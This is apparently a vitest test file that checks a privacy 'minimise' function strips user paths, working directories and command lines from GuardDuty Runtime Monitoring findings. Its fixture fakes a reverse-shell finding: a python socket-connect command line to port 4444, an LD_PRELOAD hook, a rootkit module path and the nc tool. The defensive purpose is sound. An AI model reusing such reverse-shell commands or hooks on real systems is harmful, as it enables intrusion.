/**
 * Runtime Monitoring findings name the process behind them (`service.runtimeDetails.process`, a
 * ProcessDetails in GuardDuty's API reference): its `executablePath`, its working directory `pwd`,
 * and each ancestor in `lineage[]` with its own `executablePath`; the context (`runtimeDetails.context`,
 * RuntimeContext) adds a `commandLineExample`, the script, library, module, socket, shell history and
 * threat file paths, mounts and the LD_PRELOAD value, and the modifying or target process (again a
 * ProcessDetails). A path under a home directory names its user (`/home/jjansen/…`), and a command
 * line can hold anything a person typed. `minimise` removed the process's user but left every path
 * and command line. They now go as a malware scan's file paths do (kind `file-path`, and the command
 * line as `command-line`): the value, and its text where the finding repeats it; the process name,
 * hash, pids and the organisation's resource stay. The shared fixtures hold no Runtime Monitoring
 * finding: the shapes follow the API reference.
 */
import { expect, it } from 'vitest';
import type { Incident } from '../../handlers/core/incident.js';
import { MINIMISED, minimiseDetail, minimisedSummary, removedKinds } from '../../handlers/core/minimise.js';

const HASH = 'b'.repeat(64);

function runtimeDetail() {
  const process = {
    name: 'python3',
    executablePath: '/home/jjansen/.venv/bin/python3',
    executableSha256: HASH,
    pid: 4242,
    namespacePid: 42,
    pwd: '/home/jjansen/projecten/salarissen',
    startTime: '2026-11-28T01:00:00Z',
    uuid: 'proc-1',
    parentUuid: 'proc-0',
    user: 'jjansen',
    userId: 1001,
    euid: 1001,
    lineage: [
      { name: 'bash', executablePath: '/usr/bin/bash', pid: 4200, uuid: 'proc-0', parentUuid: 'proc-x', userId: 1001, euid: 1001 },
      { name: 'sshd', executablePath: '/home/jjansen/bin/sshd-wrapper', pid: 1, uuid: 'proc-x' },
    ],
  };
  return {
    type: 'Execution:Runtime/ReverseShell',
    title: 'A reverse shell on EC2 instance i-0abc',
    description: 'Process /home/jjansen/.venv/bin/python3 ran python3 -c "import socket; s.connect((\'x\',4444))" --user j.jansen@example.nl.',
    resource: { resourceType: 'Instance', instanceDetails: { instanceId: 'i-0abc' } },
    service: {
      featureName: 'RuntimeMonitoring',
      runtimeDetails: {
        process,
        context: {
          commandLineExample: 'python3 -c "import socket; s.connect((\'x\',4444))" --user j.jansen@example.nl',
          scriptPath: '/home/jjansen/scripts/backup-lonen.sh',
          libraryPath: '/home/jjansen/lib/hook.so',
          ldPreloadValue: '/home/jjansen/lib/hook.so',
          shellHistoryFilePath: '/home/jjansen/.bash_history',
          threatFilePath: '/home/jjansen/Downloads/x',
          moduleFilePath: '/lib/modules/rootkit.ko',
          socketPath: '/run/user/1001/docker.sock',
          runcBinaryPath: '/usr/bin/runc',
          releaseAgentPath: '/tmp/release-agent',
          mountSource: '/home/jjansen',
          mountTarget: '/mnt/host-home',
          toolName: 'nc',
          modifyingProcess: { name: 'gdb', executablePath: '/home/pdevries/bin/gdb', pwd: '/home/pdevries', pid: 7 },
        },
      },
    },
  };
}

it('minimise removes a process’s paths, working directory, lineage paths and command line; name, hash and pids stay', () => {
  const { detail, paths } = minimiseDetail(runtimeDetail());
  const text = JSON.stringify(detail);
  for (const gone of ['jjansen', 'pdevries', 'j.jansen@example.nl', 'salarissen', 'backup-lonen', 'bash_history', 'rootkit.ko', 'docker.sock', 'host-home'])
    expect(text, gone).not.toContain(gone);
  const runtime = (detail.service as ReturnType<typeof runtimeDetail>['service']).runtimeDetails;
  expect(runtime.process).toMatchObject({ name: 'python3', executableSha256: HASH, pid: 4242, executablePath: MINIMISED, pwd: MINIMISED });
  expect(runtime.process.lineage.map((l) => [l.name, l.executablePath, l.pid])).toEqual([
    ['bash', MINIMISED, 4200],
    ['sshd', MINIMISED, 1],
  ]);
  expect(runtime.context).toMatchObject({ commandLineExample: MINIMISED, toolName: 'nc', modifyingProcess: { name: 'gdb', pid: 7 } });
  expect(detail.description).not.toContain('/home/');
  expect(paths).toContain('service.runtimeDetails.process.lineage[].executablePath');
  expect(paths).toContain('service.runtimeDetails.context.commandLineExample');
  expect(removedKinds(paths)).toEqual(expect.arrayContaining(['file-path', 'command-line', 'user-name']));
  // A record minimised before these paths were known personal is found by verify and minimised again; once done, nothing is left.
  expect(minimiseDetail(detail).paths).toEqual([]);
  const incident = { minimised: { at: '2026-09-01T08:00:00.000Z', by: 'FG', afterDays: 180, findings: 1, kinds: ['command-line'] } } as Incident;
  expect(minimisedSummary(incident, [], 'nl', (iso) => iso)).toContain(': opdrachtregels.');
  expect(minimisedSummary(incident, [], 'en', (iso) => iso)).toContain(': command lines.');
});
